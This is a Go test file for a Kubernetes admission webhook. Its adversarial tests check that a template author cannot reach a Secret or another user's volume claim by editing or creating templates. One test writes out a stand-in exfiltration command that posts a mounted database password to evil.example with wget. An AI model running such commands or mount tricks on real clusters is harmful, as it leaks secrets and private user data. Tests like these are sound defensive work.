package webhook_test

import (
	"context"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/userland-dev/userland/api/v1alpha1"
)

// TestAdversaryTemplateAuthorRepointsAdmittedSecret: an administrator's
// Template mounts Secret db-pass and runs as ServiceAccount builder. A
// template author who may get neither edits only the container (image,
// command, a volumeMount of the already-named secret volume): no new
// reference, so nothing is asked, and the controller runs the author's
// image with the Secret mounted, as builder. The author reads a Secret
// RBAC never gave them. An update that changes what runs next to an
// existing reference must be asked about that reference again.
func TestAdversaryTemplateAuthorRepointsAdmittedSecret(t *testing.T) {
	t.Parallel()
	startWebhooks(t)
	ctx := context.Background()
	ns := env.Namespace(t)
	tmpl := compliant(ns, "db")
	withSecretsAndServiceAccount(&tmpl.Spec)
	if err := env.Client.Create(ctx, tmpl); err != nil {
		t.Fatalf("the administrator's template: %v", err)
	}
	const mallory = "mallory@uni.example"
	c := templateAuthor(t, ns, mallory)
	var cur v1alpha1.Template
	if err := c.Get(ctx, client.ObjectKeyFromObject(tmpl), &cur); err != nil {
		t.Fatal(err)
	}
	app := &cur.Spec.PodTemplate.Spec.Containers[0]
	app.Image = "evil.example/exfiltrate:1"
	app.Command = []string{"sh", "-c", "wget --post-file=/run/db/password https://evil.example/"}
	app.VolumeMounts = append(app.VolumeMounts, corev1.VolumeMount{Name: "db", MountPath: "/run/db", ReadOnly: true})
	if err := c.Update(ctx, &cur); err == nil {
		t.Errorf("HOLE: %s (no get on secret db-pass, no use on serviceaccount builder) made the template run their own image with db-pass mounted, as builder", mallory)
	}
}

// TestAdversaryTemplateAuthorMountsAPersonsClaim: a template may name any
// PersistentVolumeClaim of the namespace, and ephemeral volumes may clone
// one (dataSource) or restore a snapshot. The controller then mounts it in
// every environment of the template. A template author with no right on
// claims reaches a student's home that way. Nothing asks whether they may
// get the claim (or snapshot).
func TestAdversaryTemplateAuthorMountsAPersonsClaim(t *testing.T) {
	t.Parallel()
	startWebhooks(t)
	ctx := context.Background()
	ns := env.Namespace(t)
	home := &corev1.PersistentVolumeClaim{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "alice-lab-home", Labels: map[string]string{
			v1alpha1.LabelUserland: "alice-lab", v1alpha1.LabelManagedBy: v1alpha1.ManagedByValue}},
		Spec: corev1.PersistentVolumeClaimSpec{
			AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
			Resources:   corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}},
		},
	}
	if err := env.Client.Create(ctx, home); err != nil {
		t.Fatal(err)
	}
	const mallory = "mallory@uni.example"
	c := templateAuthor(t, ns, mallory)
	clone := corev1.PersistentVolumeClaimSpec{
		AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
		Resources:   corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: resource.MustParse("1Gi")}},
		DataSource:  &corev1.TypedLocalObjectReference{Kind: "PersistentVolumeClaim", Name: home.Name},
	}
	snap := *clone.DeepCopy()
	snap.DataSource = &corev1.TypedLocalObjectReference{APIGroup: ptr.To("snapshot.storage.k8s.io"), Kind: "VolumeSnapshot", Name: "alice-lab-home-final"}
	for name, v := range map[string]corev1.VolumeSource{
		"claim":    {PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: home.Name}},
		"clone":    {Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{Spec: clone}}},
		"snapshot": {Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{Spec: snap}}},
	} {
		t.Run(name, func(t *testing.T) {
			tmpl := compliant(ns, "steal-"+name)
			tmpl.Spec.PodTemplate.Spec.Volumes = []corev1.Volume{{Name: "loot", VolumeSource: v}}
			app := &tmpl.Spec.PodTemplate.Spec.Containers[0]
			app.VolumeMounts = []corev1.VolumeMount{{Name: "loot", MountPath: "/loot"}}
			if err := c.Create(ctx, tmpl); err == nil {
				t.Errorf("HOLE: %s (no right on claims) made a template that mounts %s's data through a %s volume", mallory, home.Name, name)
			}
		})
	}
}
